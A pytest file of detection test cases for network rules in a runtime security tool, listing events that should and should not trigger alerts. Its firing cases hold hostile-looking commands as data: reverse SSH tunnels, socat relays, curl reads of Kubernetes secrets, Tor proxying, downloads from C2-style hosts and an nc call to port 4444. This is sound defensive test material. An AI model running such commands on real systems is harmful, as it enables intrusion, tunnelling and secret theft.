"""Peers that a workload should not have."""

from __future__ import annotations

import pytest
from seawall.domain.runtime_events import Flow, RawSocket

from tests.detection.runtime_events import HOST, PLATFORM, Case, Cases, dialled, event, raised, ran, rows

CASES: Cases = {
    "RT-1001": (
        [ran("curl --socks5 127.0.0.1:9050 http://x"), ran("curl x", environment={"ALL_PROXY": "socks5://10.0.0.1:1080"})],
        [ran("curl --proxy http://proxy:3128 http://x"), ran("podman run x curl --socks5 127.0.0.1:9050 http://x", where=HOST)],
    ),
    "RT-1002": (
        [ran("ssh -N -R 9000:localhost:22 a@8.8.4.4"), ran("socat TCP-LISTEN:7000,fork TCP:8.8.8.8:53")],
        [ran("ssh a@10.0.0.1"), ran("socat TCP-LISTEN:7000,fork TCP:10.0.0.1:53"), ran("ssh -N -L 1:localhost:2 a@8.8.4.4", where=PLATFORM)],
    ),
    "RT-1003": (
        [ran("curl -k https://kubernetes.default.svc/api/v1/secrets"), ran("kubectl get secrets", drift=True)],
        [ran("kubectl version"), ran("curl https://example.org/x"), ran("kubectl get pods", where=HOST)],
    ),
    "RT-1004": (
        [dialled("10.96.3.4", 443, "curl x", host="kubernetes-dashboard.kubernetes-dashboard.svc.cluster.local")],
        [dialled("10.96.3.4", 443, "curl x", host="shop.svc.cluster.local"), dialled("10.96.3.4", 443, "nginx", host="kubernetes-dashboard.x")],
    ),
    "RT-1005": (
        [dialled("10.1.2.3", 10250, "curl x"), dialled("10.1.2.3", 10255, "app")],
        [dialled("10.1.2.3", 10250, "metrics-server"), dialled("10.1.2.3", 10250, "x", where=HOST), dialled("10.1.2.3", 10251)],
    ),
    "RT-1006": (
        [dialled("10.1.2.3", 2379, "curl x"), dialled("10.1.2.3", 2380, "app")],
        [dialled("127.0.0.1", 2379, "app"), dialled("10.1.2.3", 2379, "patroni"), dialled("10.1.2.3", 2379, "app", host="shop-etcd.shop.svc")],
    ),
    "RT-1007": (
        [dialled("192.0.2.66", 443), dialled("198.18.0.9", 443, host="c2.bashgo.pw")],
        [dialled("192.0.2.65", 443), dialled("192.0.2.66", 0, family="unix")],
    ),
    "RT-1008": (
        [ran("tor -f /etc/tor/torrc"), ran("curl http://expyuzz4wqqyqhjn.onion/"), ran("curl --socks5 127.0.0.1:9050 http://x")],
        [ran("curl http://torproject.example/"), ran("tar xf tor.tar")],
    ),
    "RT-1009": (
        [dialled("86.59.21.38", 443), dialled("198.18.0.9", 443, host="www.torproject.org")],
        [dialled("86.59.21.39", 443), dialled("198.18.0.9", 443, host="torproject.example")],
    ),
    "RT-1010": (
        [event(RawSocket, "python x.py", family="packet", protocol=3)],
        [
            event(RawSocket, "ping x", family="packet"), event(RawSocket, "x", family="inet", protocol=1),
            event(RawSocket, "x", family="packet", where=HOST), event(RawSocket, "x", family="packet", where=PLATFORM),
        ],
    ),
    "RT-1011": (
        [event(Flow, "curl x", address="8.8.8.8", port=443, sent_bytes=60_000_000), event(Flow, "app", address="8.8.8.8", port=443, sent_bytes=600_000_000)],
        [
            event(Flow, "app", address="8.8.8.8", port=443, sent_bytes=60_000_000), event(Flow, "curl x", address="10.0.0.1", port=443, sent_bytes=600_000_000),
            event(Flow, "app", address="8.8.8.8", port=443, sent_bytes=600_000_000, received_bytes=300_000_000),
        ],
    ),
    "RT-1012": (
        [[dialled(f"10.0.0.{n}", 80, "curl x", at=n) for n in range(6)]],
        [[dialled(f"10.0.0.{n}", 80, "app", at=n) for n in range(6)], [dialled("10.0.0.1", 80, "curl x", at=n) for n in range(6)]],
    ),
    "RT-1013": (
        [dialled("1.1.1.1", 443, "python x.py"), dialled("8.8.8.8", 443, "x")],
        [dialled("1.1.1.1", 53, "x"), dialled("1.1.1.1", 443, "firefox"), dialled("198.18.0.9", 443, "x")],
    ),
    "RT-1014": (
        [ran("curl https://dns.google/resolve?name=x"), ran("curl https://cloudflare-dns.com/dns-query?name=x")],
        [ran("curl https://example.org/"), ran("dig @8.8.8.8 x")],
    ),
    "RT-1015": (
        [ran("curl http://x.bashgo.pw/a"), ran("sh -c 'wget http://borg.wtf/a'")],
        [ran("curl http://example.org/bashgo"), ran("podman run x curl http://borg.wtf/", where=HOST)],
    ),
    "RT-1016": (
        [ran("curl http://192.0.2.66/a"), ran("nc 192.0.2.66 4444")],
        [ran("curl http://192.0.2.65/a"), ran("curl http://192.0.2.661/a")],
    ),
    "RT-1017": (
        [ran("curl http://abc.oast.fun"), ran("wget http://x.burpcollaborator.net")],
        [ran("curl http://oast.example.org"), ran("podman run x curl http://abc.oast.fun", where=HOST)],
    ),
}  # fmt: skip


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_network(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires
